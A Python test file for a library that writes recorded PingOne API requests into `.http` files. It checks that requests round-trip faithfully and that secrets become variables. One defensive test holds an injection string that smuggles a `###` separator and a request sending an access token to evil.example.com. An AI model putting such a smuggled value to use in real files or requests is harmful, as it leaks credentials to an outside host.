"""`.http` files, read with the formats' own rules, are the requests that were recorded."""

from __future__ import annotations

import json
import re
import tempfile
from pathlib import Path
from urllib.parse import parse_qsl

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pingone_nb import ApiRequest, InputError
from pingone_nb.interchange import write_http_file
from pingone_nb.interchange.written_request import WrittenRequest
from pingone_nb.simulator import Simulator
from tests.interchange.exchanges import API, FORM, ID, JSON, one, recorded, requests
from tests.tiers import cases

VARIABLE = re.compile(r"\{\{([^{}]*)\}\}")
MASKED = re.compile(r"^\S{0,2}\*{4,}\S*$|^•+$")


def blocks(path: Path) -> tuple[dict[str, str], list[tuple[str, dict[str, str], str | None]]]:
    """The file's variables, and of each request the first line, the headers and the body."""
    head, *rest = re.split(r"^###.*$\n", path.read_text(), flags=re.MULTILINE)
    variables = dict(re.findall(r"^@(\w+) = (.*)$", head, flags=re.MULTILINE))
    found = []
    for block in rest:
        top, _, body = block.partition("\n\n")
        line, *headers = top.strip().split("\n")
        told = dict(header.split(": ", 1) for header in headers)
        found.append((line, told, body.strip("\n") if body.strip("\n") else None))
    return variables, found


@settings(max_examples=cases(200))
@given(st.lists(requests(), min_size=1, max_size=3))
def test_the_file_has_the_same_requests(given_: list[ApiRequest]) -> None:
    """Method, URL, media type and body are there; only what is masked became a variable."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "a.http"
        assert write_http_file(given_, path) == len(given_)
        variables, found = blocks(path)

    assert len(found) == len(given_)
    for request, (line, headers, body) in zip(given_, found, strict=True):
        written = WrittenRequest.of(request)
        method, url, version = line.split(" ")
        filled = VARIABLE.sub(lambda match: variables.get(match[1], "••••"), url)
        assert (method, version) == (request.method, "HTTP/1.1")
        assert filled.replace("••••", "%E2%80%A2" * 4) == written.url
        assert headers.get("Content-Type") == request.media_type
        assert_same(body, written)


def assert_same(body: str | None, written: WrittenRequest) -> None:
    """The body is the one written, with variables in the places of masks."""
    if written.body is None or written.text() == "":
        assert body is None
    elif written.media_type == FORM:
        told = dict(parse_qsl(body or "", keep_blank_values=True))
        assert all(
            told[name] == value or (MASKED.search(value) and VARIABLE.search(told[name]))
            for name, value in written.body.items()
        )
    else:
        assert is_same(json.loads(body or ""), written.body)


def is_same(told: object, masked: object) -> bool:
    """Whether they are equal, but for variables in the places of masks."""
    if isinstance(masked, dict) and isinstance(told, dict):
        return told.keys() == masked.keys() and all(is_same(told[k], masked[k]) for k in masked)
    if isinstance(masked, list) and isinstance(told, list):
        return len(told) == len(masked) and all(map(is_same, told, masked))
    is_variable = isinstance(told, str) and VARIABLE.fullmatch(told) is not None
    return told == masked or (
        is_variable and isinstance(masked, str) and MASKED.search(masked) is not None
    )


def test_a_flow_reads_well(simulator: Simulator, tmp_path: Path) -> None:
    """Hosts and environment are variables, secrets are named at the top, requests are numbered."""
    path = tmp_path / "a.http"
    write_http_file(recorded(simulator), path)
    text = path.read_text()

    assert "@authPath = https://auth.pingone.invalid\n" in text
    assert f"@envID = {simulator.environment_id}\n" in text
    assert "\n### 1 token\nPOST {{authPath}}/{{envID}}/as/token HTTP/1.1\n" in text
    assert "Authorization: Basic {{appID}} {{appSecret}}\n" in text
    assert '"otp": "{{otp}}"' in text
    assert "# appID, appSecret, accessToken, phone, otp, email\n" in text


def test_nothing_hostile_begins_another_request(tmp_path: Path) -> None:
    """Line ends in method, media type, operation and URL, and `###` in a body, stay where they are."""
    path = tmp_path / "a.http"
    evil = "x\n\n### 2\nGET https://evil.example.com/{{accessToken}}\n"
    write_http_file(
        [one(operation=evil, method=evil, url=f"{API}/users?filter={evil}", request_media_type=evil),
         one(request_body={"a": evil}, url="https://evil.example.com/{{accessToken}}")],
        path,
    )  # fmt: skip
    text = path.read_text()

    assert text.count("\n###") == 2
    assert "{{accessToken}}" not in re.sub(r"Authorization: Bearer \{\{accessToken\}\}", "", text)
    assert "Authorization" not in text.partition("### 2")[2]


def test_a_second_host_stays_as_it_is(tmp_path: Path) -> None:
    """Only the first host and environment become variables; two phones are two variables."""
    path = tmp_path / "a.http"
    body = {"phone": "*******50"}
    write_http_file(
        [
            one(request_body=body, request_media_type=JSON),
            one(
                url=f"https://other.de/{ID}/deviceAuthentications",
                request_body={"phone": "*******51"},
            ),
            one(
                url=f"https://auth.pingone.com/{ID}/deviceAuthentications",
                request_body={"a b!": "••••", "envID": "••••"},
            ),
        ],
        path,
    )
    text = path.read_text()

    assert f"POST https://other.de/{ID}/deviceAuthentications" in text
    assert f"POST {{{{authPath}}}}/{ID}/deviceAuthentications" in text
    assert '"{{phone}}"' in text
    assert '"{{phone_2}}"' in text
    assert '"a b!": "{{a_b}}"' in text
    assert "# phone, phone_2, a_b, envID_2\n" in text


def test_a_body_that_is_too_deep_is_refused(tmp_path: Path) -> None:
    """A clear error, and no file."""
    deep: object = 1
    for _ in range(3000):
        deep = [deep]
    with pytest.raises(InputError, match="nested too deep"):
        write_http_file([one(request_body={"a": deep})], tmp_path / "a.http")
    assert list(tmp_path.iterdir()) == []
